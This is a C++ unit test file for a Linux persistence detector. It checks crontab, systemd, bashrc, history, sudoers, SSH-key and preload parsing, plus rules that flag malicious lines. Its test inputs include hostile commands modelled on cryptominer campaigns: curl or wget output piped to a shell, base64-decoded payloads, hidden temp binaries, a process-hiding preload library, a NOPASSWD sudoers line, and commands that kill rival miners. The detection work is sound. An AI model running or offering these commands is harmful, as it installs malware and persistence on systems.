#include "detect/heuristics/linux_persistence.h"

#include <gtest/gtest.h>

#include <map>

#include "formats/crontab/crontab.h"
#include "normalize/normalize.h"

namespace msw::detect::heuristics {
namespace {

TEST(Crontab, UserAndSystemFormats) {
  Diagnostics d;
  auto user = formats::crontab::parse(
      as_bytes("# m h dom mon dow command\nSHELL=/bin/sh\n*/5 * * * * curl -fsSL http://x/a.sh | sh\n"
               "@reboot /tmp/.x/kdevtmpfsi\n* * * * *\n"),
      false, "root", d);
  ASSERT_TRUE(user);
  ASSERT_EQ(user->entries.size(), 2u);
  EXPECT_EQ(user->entries[0].schedule, "*/5 * * * *");
  EXPECT_EQ(user->entries[0].command, "curl -fsSL http://x/a.sh | sh");
  EXPECT_EQ(user->entries[0].line, 3u);
  EXPECT_EQ(user->entries[1].schedule, "@reboot");
  EXPECT_EQ(user->environment.size(), 1u);
  ASSERT_EQ(d.size(), 1u);  // the line with no command
  auto sys = formats::crontab::parse(as_bytes("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"), true,
                                     "/etc/crontab", d);
  ASSERT_TRUE(sys);
  EXPECT_EQ(sys->entries[0].user, "root");
  EXPECT_EQ(sys->entries[0].command, "cd / && run-parts --report /etc/cron.hourly");
}

TEST(LinuxPersistence, DownloadAndExecutePatterns) {
  // Forms seen in Kinsing, TeamTNT, 8220 and WatchDog cron lines.
  EXPECT_TRUE(downloads_and_executes("curl -fsSL http://195.3.146.118/lh.sh | sh"));
  EXPECT_TRUE(downloads_and_executes("(curl -s http://a.b/c||wget -q -O- http://a.b/c)|bash"));
  EXPECT_TRUE(downloads_and_executes("wget -q -O - http://x.y/z.sh | /bin/bash"));
  EXPECT_TRUE(downloads_and_executes("sh -c \"$(curl -fsSL https://x/i.sh)\""));
  EXPECT_TRUE(downloads_and_executes("echo Y3VybCBodHRwOi8v | base64 -d | bash"));
  EXPECT_TRUE(downloads_and_executes("python -c 'import urllib;exec(urllib.urlopen(\"http://x\").read())' | sh"));
  EXPECT_FALSE(downloads_and_executes("curl -fsS https://hc-ping.com/uuid > /dev/null"));
  EXPECT_FALSE(downloads_and_executes("/usr/bin/certbot renew --quiet"));
  EXPECT_FALSE(downloads_and_executes("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"));
  EXPECT_TRUE(runs_from_temp_or_hidden("/tmp/kdevtmpfsi"));
  EXPECT_TRUE(runs_from_temp_or_hidden("cd /var/tmp/.ICE-unix && ./x"));
  EXPECT_TRUE(runs_from_temp_or_hidden("nohup /root/.configrc/a/upd >/dev/null"));
  EXPECT_FALSE(runs_from_temp_or_hidden("/usr/lib/php/sessionclean"));
}

TEST(LinuxPersistence, FindingsFromEvents) {
  Diagnostics d;
  normalize::Source src{"/var/spool/cron/crontabs/root", "linux"};
  std::vector<model::Event> events;
  ASSERT_TRUE(normalize::crontab_events(
      as_bytes("*/3 * * * * wget -q -O- http://185.1.1.1/ldr.sh | sh > /dev/null 2>&1\n0 4 * * * /usr/bin/apt update\n"),
      src, d, events));
  normalize::Source pre{"/etc/ld.so.preload", "linux"};
  ASSERT_TRUE(normalize::preload_events(as_bytes("/usr/local/lib/libprocesshider.so\n"), pre, d, events));
  auto engine = make_linux_persistence_engine();
  std::vector<model::Finding> out;
  engine->scan_artefact({"/var/spool/cron/crontabs/root", "aa", "crontab", "linux", "", events}, out);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].rule_id, kCronDownloadRule);
  EXPECT_EQ(out[0].severity, model::Severity::High);
  EXPECT_EQ(out[0].evidence[0].line, 1u);
  EXPECT_EQ(out[0].actions[0].kind, model::ActionKind::RemoveCronEntry);
  EXPECT_EQ(out[1].rule_id, kPreloadRule);
  EXPECT_EQ(out[1].observables[0].value, "/usr/local/lib/libprocesshider.so");
  EXPECT_EQ(*events[0].get(model::Field::User), "root");  // spool file name is the owner
}

TEST(LinuxPersistence, AuthorizedKeysBecomeEvents) {
  Diagnostics d;
  std::vector<model::Event> events;
  ASSERT_TRUE(normalize::authorized_key_events(
      as_bytes("no-pty,command=\"/x\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBy worm@x\n# c\nssh-rsa AAAAB3Nza admin\n"),
      {"/home/deploy/.ssh/authorized_keys", "linux"}, d, events));
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(*events[0].get(model::Field::User), "deploy");
  EXPECT_EQ(*events[0].get(model::Field::Details), "ssh-ed25519 worm@x");
  EXPECT_EQ(*events[1].get(model::Field::LineNumber), "3");
}

TEST(LinuxPersistence, OnlyTheCommandPositionCountsForTempFolders) {
  // Debian's own init scripts mention /dev/shm and /tmp/.X11-unix without running anything from there.
  EXPECT_FALSE(runs_from_temp_or_hidden("if mountpoint -q /dev/shm/; then"));
  EXPECT_FALSE(runs_from_temp_or_hidden("umount -n -l /dev/shm/"));
  EXPECT_FALSE(runs_from_temp_or_hidden("DIR=\"/tmp/$1\""));
  EXPECT_FALSE(runs_from_temp_or_hidden("mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix"));
  EXPECT_TRUE(runs_from_temp_or_hidden("nohup /dev/shm/.x/xmr >/dev/null 2>&1 &"));
  EXPECT_TRUE(runs_from_temp_or_hidden("chmod +x /tmp/k; timeout 600 /tmp/k"));
  EXPECT_TRUE(runs_from_temp_or_hidden("sh /var/tmp/.s"));
  EXPECT_TRUE(runs_from_temp_or_hidden("LD_LIBRARY_PATH=/x /tmp/.hid/run"));
}

TEST(LinuxPersistence, DownloadUrls) {
  EXPECT_EQ(download_urls("(curl -fsSL http://203.0.113.9/d.sh||wget -q -O- http://203.0.113.9/d.sh)|sh"),
            std::vector<std::string>({"http://203.0.113.9/d.sh"}));
  EXPECT_EQ(download_urls("wget 'https://x.example/a?b=1';tftp"), std::vector<std::string>({"https://x.example/a?b=1"}));
  EXPECT_TRUE(download_urls("echo no urls").empty());
}

TEST(LinuxPersistence, CompetitorKilling) {
  EXPECT_TRUE(kills_competitors("pkill -f xmrig"));
  EXPECT_TRUE(kills_competitors("killall -9 kdevtmpfsi kinsing"));
  EXPECT_TRUE(kills_competitors("ps aux | grep -v grep | awk '{if($3>40.0) print $2}' | xargs -I % kill -9 %"));
  EXPECT_TRUE(kills_competitors("netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %"));
  EXPECT_FALSE(kills_competitors("pkill -HUP nginx"));
  EXPECT_FALSE(kills_competitors("kill -9 $(cat /run/app.pid)"));
}

TEST(LinuxPersistence, SystemdScriptsHistoriesAndSudoers) {
  Diagnostics d;
  std::vector<model::Event> unit, script, history, sudo;
  ASSERT_TRUE(normalize::systemd_unit_events(
      as_bytes("[Unit]\nDescription=System update\n[Service]\nExecStartPre=-/bin/sh -c 'curl -fsSL http://x/u.sh \\\n | bash'\n"
               "ExecStart=/usr/bin/nginx\n[Install]\nWantedBy=multi-user.target\n"),
      {"/etc/systemd/system/sysupdate.service", "linux"}, d, unit));
  ASSERT_EQ(unit.size(), 2u);
  EXPECT_EQ(*unit[0].get(model::Field::CommandLine), "/bin/sh -c 'curl -fsSL http://x/u.sh  | bash'");  // continued, prefix gone
  EXPECT_EQ(*unit[0].get(model::Field::ServiceName), "sysupdate.service");
  EXPECT_EQ(*unit[0].get(model::Field::Description), "System update");
  EXPECT_EQ(*unit[0].get("WantedBy"), "multi-user.target");

  ASSERT_TRUE(normalize::script_line_events(as_bytes("#!/bin/sh\n# comment\nexport PROMPT_COMMAND='/tmp/.x/r &'\n"),
                                            {"/root/.bashrc", "linux"}, d, script));
  ASSERT_EQ(script.size(), 1u);
  ASSERT_TRUE(normalize::history_events(as_bytes("#1700000000\ncd /tmp\npkill -f xmrig\n"), {"/root/.bash_history", "linux"}, d, history));
  ASSERT_EQ(history.size(), 2u);
  ASSERT_TRUE(history[0].time);
  EXPECT_EQ(to_iso8601(*history[0].time, 0), "2023-11-14T22:13:20Z");
  EXPECT_FALSE(history[1].time);
  EXPECT_EQ(*history[1].get(model::Field::User), "root");
  ASSERT_TRUE(normalize::sudoers_events(
      as_bytes("Defaults env_reset\n%sudo ALL=(ALL:ALL) ALL\nroot ALL=(ALL) ALL\nsystemd-net ALL=(ALL) NOPASSWD: ALL\n#includedir /etc/sudoers.d\n"),
      {"/etc/sudoers", "linux"}, d, sudo));
  ASSERT_EQ(sudo.size(), 3u);

  auto engine = make_linux_persistence_engine();
  std::map<std::string, int> rules;
  for (auto* events : {&unit, &script, &history, &sudo}) {
    std::vector<model::Finding> out;
    engine->scan_artefact({"x", "", "", "linux", "", *events}, out);
    for (const auto& f : out) ++rules[f.rule_id];
  }
  EXPECT_EQ(rules[std::string(kAutostartDownloadRule)], 1);
  EXPECT_EQ(rules[std::string(kPromptCommandRule)], 1);
  EXPECT_EQ(rules[std::string(kCompetitorKillRule)], 1);
  EXPECT_EQ(rules[std::string(kSudoersRule)], 1);  // systemd-net, not root or %sudo
  EXPECT_EQ(rules.size(), 4u);
}

TEST(LinuxPersistence, ADroppedScriptIsOneFindingPerRule) {
  Diagnostics d;
  std::vector<model::Event> events;
  ASSERT_TRUE(normalize::dropped_script_events(
      as_bytes("#!/bin/sh\npkill -f xmrig\npkill -f kinsing\nkillall -9 kdevtmpfsi\ncurl -s http://x/y | sh\necho done\n"),
      {"/tmp/d.sh", "linux"}, d, events));
  auto engine = make_linux_persistence_engine();
  std::vector<model::Finding> out;
  engine->scan_artefact({"/tmp/d.sh", "", "dropped_script", "linux", "", events}, out);
  ASSERT_EQ(out.size(), 2u);  // rival killing (3 lines), download-and-run (1 line)
  EXPECT_EQ(out[0].rule_id, kCompetitorKillRule);
  EXPECT_EQ(out[0].evidence.size(), 3u);
  EXPECT_NE(out[0].title_en.find("3 lines"), std::string::npos);
  EXPECT_EQ(out[0].actions[0].kind, model::ActionKind::QuarantineFile);
  EXPECT_EQ(out[1].rule_id, kAutostartDownloadRule);
}

}  // namespace
}  // namespace msw::detect::heuristics
